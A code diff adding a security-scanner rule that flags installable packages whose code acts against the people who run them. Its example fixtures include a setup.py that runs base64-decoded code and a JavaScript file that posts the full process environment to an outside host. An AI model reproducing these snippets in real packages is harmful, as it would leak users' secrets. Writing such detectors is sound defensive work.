@@ -1,0 +1,64 @@
+import type { RepositoryCheck } from '../../check.ts';
+import type { Role } from '../../inventory/roles.ts';
+
+/** A folder with one of these is something people install. */
+const MAKES_A_PACKAGE: ReadonlySet<Role | undefined> = new Set(['npm-manifest', 'python-manifest', 'setup-script']);
+
+export const check: RepositoryCheck = {
+  id: 'supply-chain-hostile-package',
+  title: 'Installing this package hands the machine to its author',
+  severity: 'critical',
+  kind: 'malice',
+  confidence: 'high',
+  since: '0.1.0',
+  cwe: [506],
+  why: `
+    Code of the package that runs at install, at import or in use was seen to act against whoever runs it. The other findings
+    say where and how; this one says what follows for the package as a whole.`,
+  fix: `
+    Do not install it. Where it was installed, take the machine for compromised: change every credential it could read.`,
+  blindSpots:
+    'Only acts that are visible in the code count; a payload that is fetched later is known by its fetching alone.',
+  over: 'repository',
+  examples: {
+    bad: [
+      {
+        'setup.py': `
+          import base64
+          from setuptools import setup
+          «exec(base64.b64decode('cHJpbnQoImhlbGxvIHdvcmxkIGZyb20gYSBoaWRkZW4gcGxhY2UiKQ=='))»
+          setup(name='helper')`,
+      },
+      {
+        'package.json': '{"name": "helper", "version": "1.0.0"}',
+        'index.js': `
+          const https = require('https');
+          const request = https.request({ host: 'collect.acme.io', method: 'POST' });
+          «request.write(JSON.stringify(process.env))»;
+          request.end();`,
+      },
+    ],
+    good: [
+      { 'setup.py': "from setuptools import setup\nsetup(name='helper')" },
+      {
+        'package.json': '{"name": "helper", "version": "1.0.0"}',
+        'index.js': "const key = process.env.API_KEY;\nfetch('https://api.acme.io', { headers: { key } });",
+      },
+    ],
+  },
+
+  *find(repository) {
+    if (!repository.files.some((file) => MAKES_A_PACKAGE.has(file.role))) return;
+    const contexts = new Map(repository.files.map((file) => [file.path, file.context]));
+    const acts = repository
+      .notesOf('act')
+      .filter(({ at, confidence }) => confidence !== 'low' && contexts.get(at.file) === 'runtime');
+    const worst = acts.find(({ confidence }) => confidence === 'high') ?? acts[0];
+    if (worst === undefined) return;
+    yield {
+      at: worst.at,
+      message: `The package acts against whoever runs it. ${worst.message}`,
+      confidence: worst.confidence,
+    };
+  },
+};
